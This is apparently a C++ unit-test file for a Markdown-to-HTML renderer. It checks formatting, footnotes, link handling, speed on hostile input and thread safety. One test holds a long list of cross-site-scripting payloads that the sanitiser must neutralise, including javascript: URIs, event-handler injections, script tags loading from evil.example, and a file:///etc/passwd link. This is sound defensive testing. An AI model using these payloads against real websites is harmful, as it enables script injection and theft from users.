#include "html/markdown.hpp"

#include <gtest/gtest.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <regex>
#include <thread>

#include "base/limits.hpp"

namespace html {
namespace {

std::string made(std::string_view text, int top = 3) { return markdown(text, top).text(); }

TEST(Markdown, WritesWhatPeopleType) {
  EXPECT_EQ(made("Hello *you* and **me**, ~~not~~ `a<b`"),
            "<p>Hello <em>you</em> and <strong>me</strong>, <del>not</del> "
            "<code>a&lt;b</code></p>\n");
  EXPECT_EQ(made("one\ntwo"), "<p>one<br>\ntwo</p>\n");
  EXPECT_EQ(made("- a\n- b"), "<ul><li>a</li>\n<li>b</li>\n</ul>\n");
  EXPECT_EQ(made("3. a\n4. b"), "<ol start=\"3\"><li>a</li>\n<li>b</li>\n</ol>\n");
  EXPECT_EQ(made("> q"), "<blockquote><p>q</p>\n</blockquote>\n");
  EXPECT_EQ(made("```x\na < b\n```"), "<pre tabindex=\"0\"><code>a &lt; b\n</code></pre>\n");
  EXPECT_EQ(made(""), "");
}

// The text itself was cleaned; these come about in reading it.
TEST(Markdown, DropsWhatNoPageMayHold) {
  EXPECT_EQ(made("a&#1;b&#12;c&#x202E;d"), "<p>abcd</p>\n");
  EXPECT_EQ(made("a&#xFFFE;b"), "<p>a\uFFFDb</p>\n");
  EXPECT_EQ(made("[a](/b&#1;c)"), "<p><a href=\"/bc\">a</a></p>\n");
  EXPECT_EQ(made("[a](/&#x80;/elsewhere.example)"), made("[a](//elsewhere.example)"));
  EXPECT_EQ(markdown_words("a&#1;b"), "ab");
}

TEST(Markdown, BeginsHeadingsWhereThePageSays) {
  EXPECT_EQ(made("# a\n## b\n###### c"), "<h3>a</h3>\n<h4>b</h4>\n<h6>c</h6>\n");
  EXPECT_EQ(made("# a", 2), "<h2>a</h2>\n");
}

TEST(Markdown, WritesTables) {
  EXPECT_EQ(made("|a|b|\n|-|-|\n|1|<|"),
            "<div class=\"scroll\" tabindex=\"0\"><table><tr><th scope=\"col\">a</th>\n"
            "<th scope=\"col\">b</th>\n</tr>\n<tr><td>1</td>\n<td>&lt;</td>\n</tr>\n</table>\n"
            "</div>\n");
}

TEST(Markdown, ShowsTasksAsSigns) {
  EXPECT_EQ(made("- [x] a\n- [ ] b"),
            "<ul><li class=\"task\">☑ a</li>\n<li class=\"task\">☐ b</li>\n</ul>\n");
}

TEST(Markdown, LinksFootnotesBothWays) {
  const std::string page = made("a[^x] b[^y] c[^x]\n\n[^y]: Y\n[^x]: X");
  std::smatch id;
  ASSERT_TRUE(std::regex_search(page, id, std::regex("id=\"fnref-([0-9]+)-1\""))) << page;
  const std::string mark = id[1];
  for (const std::string& part :
       {"href=\"#fn-" + mark + "-1\"", "id=\"fn-" + mark + "-1\"", "id=\"fn-" + mark + "-2\"",
        "href=\"#fnref-" + mark + "-1\"", "id=\"fnref-" + mark + "-2\""}) {
    EXPECT_NE(page.find(part), std::string::npos) << part << page;
  }
  EXPECT_EQ(page.find("id=\"fnref-" + mark + "-1\""), page.rfind("id=\"fnref-" + mark + "-1\""));
  EXPECT_EQ(made("another[^x]\n\n[^x]: X").find("fn-" + mark + "-"), std::string::npos);
}

TEST(Markdown, MarksLinksThatLeaveTheHub) {
  EXPECT_EQ(made("[a](https://a.example/?x=1&y=2)"),
            "<p><a href=\"https://a.example/?x=1&amp;y=2\" rel=\"nofollow noopener\">a</a></p>\n");
  EXPECT_EQ(made("[a](/c/lokaal-meten)"), "<p><a href=\"/c/lokaal-meten\">a</a></p>\n");
  EXPECT_EQ(made("see www.a.example."),
            "<p>see <a href=\"http://www.a.example\" rel=\"nofollow noopener\">www.a.example</a>."
            "</p>\n");
  EXPECT_EQ(made("a@b.example"),
            "<p><a href=\"mailto:a@b.example\" rel=\"nofollow noopener\">a@b.example</a></p>\n");
}

TEST(Markdown, NamesTheHubInALetter) {
  const auto letter = [](std::string_view text) {
    return markdown(text, 3, "https://hub.example").text();
  };
  EXPECT_EQ(letter("[programme](/c/x?a=1&b=2)"),
            "<p><a href=\"https://hub.example/c/x?a=1&amp;b=2\">programme</a></p>\n");
  EXPECT_EQ(letter("![plan](/files/1-a/plan.png)"),
            "<p><a href=\"https://hub.example/files/1-a/plan.png\">plan</a></p>\n");
  EXPECT_EQ(letter("[site](https://a.example)"), made("[site](https://a.example)"));
  EXPECT_NE(letter("a[^1]\n\n[^1]: b").find("href=\"#fn-"), std::string::npos);
}

TEST(Markdown, ShowsOnlyPicturesOfOurOwn) {
  EXPECT_EQ(made("![a *b* \"c\"](/files/7/x.png)"),
            "<p><img src=\"/files/7/x.png\" alt=\"a b &quot;c&quot;\" loading=\"lazy\"></p>\n");
  EXPECT_EQ(made("![pixel](https://spy.example/p.gif)"),
            "<p><a href=\"https://spy.example/p.gif\" rel=\"nofollow noopener\">pixel</a></p>\n");
  for (const char* other : {"![a](/people/1)", "![a](/files/../sign-out)", "![a](/files/%2e%2e/x)",
                            "![a](//spy.example/files/x)", "![a](data:image/png;base64,AA)"}) {
    EXPECT_EQ(made(other).find("<img"), std::string::npos) << other;
  }
  EXPECT_EQ(made("[![a](https://x.example)](/y)"), "<p><a href=\"/y\">a</a></p>\n");
}

// Every way to smuggle script that we know of, and then what may stand in the result at all.
const std::vector<const char*> hostile = {
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a]( javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](<java\tscript:alert(1)>)",
    "[a](java&#9;script:alert(1))",
    "[a](java&#10;script:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A;&#x61;vascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](&#1;javascript:alert(1))",
    "[a](\\javascript:alert(1))",
    "[a](javascript\\:alert(1))",
    "[a](%6Aavascript:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](data:image/svg+xml,<svg onload=alert(1)>)",
    "[a](data:image/png;base64,AAAA)",
    "[a](file:///etc/passwd)",
    "[a](blob:https://a.example/1)",
    "[a](//evil.example)",
    "[a](/\\evil.example)",
    "[a](\\\\evil.example)",
    "[a][1]\n\n[1]: javascript:alert(1)",
    "[a][1]\n\n[1]: <javascript:alert(1)> \"t\"",
    "<javascript:alert(1)>",
    "<data:text/html,<script>>",
    "javascript:alert(1)",
    "![a](javascript:alert(1))",
    "![a](x\"onerror=\"alert(1))",
    "![\"onerror=\"alert(1)](/files/1/a.png)",
    "![a\"><script>alert(1)</script>](/files/1/a.png)",
    "![a](/files/1/a.png \"t\\\" onload=alert(1)\")",
    "[a](https://a.example/\"onmouseover=\"alert(1))",
    "[a](https://a.example/'onmouseover='alert(1))",
    "[a](https://a.example \"x\\\" onclick=\\\"alert(1)\")",
    "[a](</files/\"><script>alert(1)</script>>)",
    "https://a.example/\"onmouseover=\"alert(1)",
    "www.a.example/<script>alert(1)</script>",
    "a@b.example\"onclick=alert(1)",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<math><mtext></mtext><style><img src onerror=alert(1)></style></math>",
    "<!-- --><script>alert(1)</script>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<details open ontoggle=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "|<script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|`</td><script>`|",
    "a[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
    "a[^x]\n\n[^x]: <script>alert(1)</script> [b](javascript:alert(1))",
    "- [x] <script>alert(1)</script>",
    "[![a](javascript:alert(1))](javascript:alert(2))",
    "[a](/x \"</a><script>\")",
    "*<script>*alert(1)*</script>*",
    "<style>@import 'https://evil.example';</style>",
    "<base href=\"https://evil.example\">",
    "<form action=\"https://evil.example\"><input name=a>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "\xff\xfe<script>alert(1)</script>",
};

// Reads the result as a browser would and names the first tag or attribute that markdown() does
// not write itself.
std::string foreign_part(const std::string& page) {
  static const std::regex allowed(
      "<(/?(p|em|strong|del|code|pre|ul|ol|li|blockquote|h[1-6]|table|tr|td|th|sup|div|a)|br|hr|"
      "pre tabindex=\"0\"|div class=\"scroll\" tabindex=\"0\"|th scope=\"col\"|"
      "ol start=\"[0-9]+\"|li class=\"task\"|li id=\"fn-[0-9]+-[0-9]+\"|"
      "ol class=\"footnotes\" role=\"doc-endnotes\"|"
      "a href=\"#fn(ref)?-[0-9-]+\"( id=\"fnref-[0-9-]+\")? role=\"doc-(noteref|backlink)\"|"
      "a href=\"(https?://|mailto:|webcal://)[^\"<>]*\" rel=\"nofollow noopener\"|"
      "a href=\"(/|/[^/\\\\\"<>][^\"<>]*|#[^\"<>]*)\"|"
      "img src=\"/files/[^\"<>]*\" alt=\"[^\"<>]*\" loading=\"lazy\")>");
  for (std::size_t at = page.find('<'); at != page.npos; at = page.find('<', at + 1)) {
    const std::size_t end = page.find('>', at);
    const std::string tag = page.substr(at, end == page.npos ? page.npos : end - at + 1);
    if (!std::regex_match(tag, allowed)) return tag;
  }
  return {};
}

TEST(Markdown, LetsNoScriptThrough) {
  ASSERT_GE(hostile.size(), 40u);
  for (const char* text : hostile) {
    const std::string page = made(text);
    EXPECT_EQ(foreign_part(page), "") << text << "\n" << page;
    EXPECT_EQ(foreign_part(made("> - " + std::string(text))), "") << text;
  }
  const std::string nul = std::string("<scr\0ipt>x[a](java", 19) + std::string("\0script:x)", 10);
  EXPECT_EQ(foreign_part(made(nul)), "");
}

TEST(Markdown, TheScriptTestItselfCanFail) {
  for (const char* bad : {"<script>", "<a href=\"javascript:x\">", "<p onclick=\"x\">",
                          "<a href=\"//evil.example\">", "<img src=\"/x\">", "<p"}) {
    EXPECT_NE(foreign_part(bad), "") << bad;
  }
}

TEST(Markdown, KeepsTheWordsOfWhatItDrops) {
  EXPECT_EQ(made("[a](javascript:alert(1))"), "<p>a</p>\n");
  EXPECT_EQ(made("x <b>y</b>"), "<p>x y</p>\n");
}

std::string repeated(std::string_view piece, std::size_t bytes = base::limits::markdown_bytes) {
  std::string all;
  while (all.size() + piece.size() <= bytes) all += piece;
  return all;
}

TEST(Markdown, IsNotSlowOnHostileText) {
  std::string wide = "|" + repeated("a|", 16000) + "\n|" + repeated("-|", 16000);
  std::string padded =
      repeated("|a", 60) + "\n" + repeated("|-", 60) + "\n" + repeated("a\n", 32000);
  std::string deep_list;
  for (int i = 0; i < 250; ++i)
    deep_list += std::string(static_cast<std::size_t>(i), ' ') + "- a\n";
  for (const std::string& text : {wide,
                                  padded,
                                  deep_list,
                                  repeated("> "),
                                  repeated("- "),
                                  repeated("["),
                                  repeated("![["),
                                  repeated("*a_"),
                                  repeated("**"),
                                  repeated("`a``"),
                                  repeated("<"),
                                  repeated("<!--"),
                                  repeated("[a](<"),
                                  repeated("[^1]:"),
                                  repeated("a[^1]"),
                                  repeated("~~a"),
                                  repeated("&#"),
                                  repeated("www."),
                                  repeated("a@"),
                                  repeated("\\"),
                                  repeated("[a]: b\n"),
                                  repeated("```\n"),
                                  repeated("|\n|-\n"),
                                  repeated("1) "),
                                  repeated("http://("),
                                  repeated("-\n   ")}) {
    const auto start = std::chrono::steady_clock::now();
    const std::string page = made(text);
    const std::chrono::duration<double> took = std::chrono::steady_clock::now() - start;
    EXPECT_LT(took.count(), 3.0) << text.substr(0, 40);
    EXPECT_LT(page.size(), 60 * base::limits::markdown_bytes) << text.substr(0, 40);
  }
}

TEST(Markdown, CutsAtALineAndNestsNoDeeperThanBrowsers) {
  const std::string page = made(repeated("0123456789\n", 40'000));
  EXPECT_LT(page.size(), 60'000u);
  EXPECT_NE(page.find("0123456789</p>\n"), std::string::npos);
  const std::string deep = made(std::string(200, '>') + " x");
  EXPECT_EQ(std::count(deep.begin(), deep.end(), '/'), 30);
  EXPECT_NE(deep.find('x'), std::string::npos);
}

TEST(Markdown, GivesTheSameOnManyThreads) {
  const std::string text = "~~a~~ |\n\n|a|b|\n|-|-|\n|~~1~~|www.a.example|\n";
  const std::string expected = made(text);
  std::atomic<int> different = 0;
  std::vector<std::thread> threads;
  for (int i = 0; i < 4; ++i) {
    threads.emplace_back([&] {
      for (int n = 0; n < 300; ++n) different += made(text) != expected;
    });
  }
  for (std::thread& thread : threads) thread.join();
  EXPECT_EQ(different, 0);
}

TEST(MarkdownWords, GivesWordsWithoutMarks) {
  EXPECT_EQ(markdown_words("# A *b*c\n\n- one\n- [two](https://x.example)\n\n|a|b|\n|-|-|\n|1|2|"),
            "A bc one two a b 1 2");
  EXPECT_EQ(markdown_words("x <b>y</b>\nz `w`"), "x y z w");
  EXPECT_EQ(markdown_words(""), "");
}

}  // namespace
}  // namespace html
